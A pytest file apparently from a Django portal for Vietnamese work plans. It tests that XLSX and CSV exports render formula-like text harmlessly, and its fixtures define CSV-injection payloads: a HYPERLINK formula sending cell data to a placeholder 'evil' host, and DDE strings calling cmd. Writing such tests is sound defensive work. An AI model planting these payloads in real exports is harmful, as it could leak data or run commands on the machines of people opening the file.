"""Exports of plans and of the leaders' dashboard, as a spreadsheet opens them: text that
starts like a formula stays text, numbers stay numbers."""

import csv
import io

import pytest
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import CommitmentFactory, InstitutionFactory, WorkPlanFactory
from work_plans.models import CommitmentCategory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil/?x="&A1,"Xem")'
DDE = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DASH = "- Tổ chức 12 buổi chiếu phim lưu động tại các ấp"
TAB = "\tbuổi"
MINUS = "-2+3"


@pytest.fixture
def plan():
    """An approved (public) plan whose text was typed by an attacker with a staff account,
    and by someone who starts a sentence with a dash, as Vietnamese documents often do."""
    institution = InstitutionFactory(name="=1+1 Trung tâm Văn hóa", slug="trung-tam-a")
    plan = WorkPlanFactory(institution=institution, year=2026)
    crafted = CommitmentCategory.objects.create(name=AT)
    films, _ = CommitmentCategory.objects.get_or_create(name="Chiếu phim")
    CommitmentFactory(plan=plan, category=crafted, description=HYPERLINK, unit=DDE, order=1)
    tabbed = CommitmentFactory(plan=plan, category=films, description=DASH, target=12, order=2)
    # The portal stores text without a leading tab (vietnamese.fields); the export must be
    # safe whatever the database holds, so the tab is written there directly.
    with connection.cursor() as cursor:
        table = connection.ops.quote_name(tabbed._meta.db_table)
        cursor.execute(f"UPDATE {table} SET unit = %s WHERE id = %s", [TAB, tabbed.pk])
    CommitmentFactory(plan=plan, category=films, description=MINUS, unit="lớp", target=3, order=3)
    return plan


def plan_export(client, plan, kind):
    url = reverse("work_plans:plan-export", args=[plan.year, plan.institution.slug, kind])
    response = client.get(url)  # anyone: the plan is approved
    assert response.status_code == 200
    return response


def test_plan_xlsx_writes_formula_like_text_as_text(client, plan):
    sheet = load_workbook(io.BytesIO(plan_export(client, plan, "xlsx").content)).active
    rows = list(sheet.iter_rows(min_row=2))
    texts = [(row[0], row[1], row[3]) for row in rows]
    expected = [(AT, HYPERLINK, DDE), ("Chiếu phim", DASH, TAB), ("Chiếu phim", MINUS, "lớp")]
    assert [tuple(cell.value for cell in row) for row in texts] == expected
    for row in texts:
        for cell in row:
            assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f"
    assert all(not cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # Excel's "text" prefix on the cells it would otherwise re-read as a formula when edited.
    assert rows[0][1].quotePrefix and rows[0][3].quotePrefix and rows[1][1].quotePrefix
    assert not rows[2][3].quotePrefix  # "lớp" is plain text
    # Numbers stay numbers.
    assert rows[1][2].value == 12 and rows[1][2].data_type == "n"
    assert rows[2][5].value == 3 and rows[2][5].data_type == "n"


def read_csv(response):
    text = response.content.decode("utf-8-sig")
    return text, list(csv.reader(io.StringIO(text)))


def test_plan_csv_prefixes_formula_like_text_as_owasp_advises(client, plan):
    text, rows = read_csv(plan_export(client, plan, "csv"))
    assert [row[:4] for row in rows[1:]] == [
        ["'" + AT, "'" + HYPERLINK, "40.0", "'" + DDE],
        ["Chiếu phim", "'" + DASH, "12.0", "'" + TAB],
        ["Chiếu phim", "'" + MINUS, "3.0", "lớp"],
    ]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Text is quoted (a separator inside a cell cannot start a new, formula-like cell);
    # numbers are written bare, so a spreadsheet reads them as numbers.
    assert '"\'=HYPERLINK(""http://evil/?x=""&A1,""Xem"")"' in text
    assert ",12.0," in text


def test_dashboard_exports_write_an_institutions_formula_like_name_as_text(client, leader, plan):
    client.force_login(leader)
    url = reverse("work_plans:dashboard", args=[2026])
    sheet = load_workbook(io.BytesIO(client.get(url, {"xuat": "xlsx"}).content)).active
    name = sheet.cell(row=2, column=1)
    assert name.value == "=1+1 Trung tâm Văn hóa" and name.data_type == "s"
    assert sheet.cell(row=2, column=7).value == 3  # commitments: a number
    _text, rows = read_csv(client.get(url, {"xuat": "csv"}))
    assert rows[1][0] == "'=1+1 Trung tâm Văn hóa"
    assert rows[1][6] == "3"
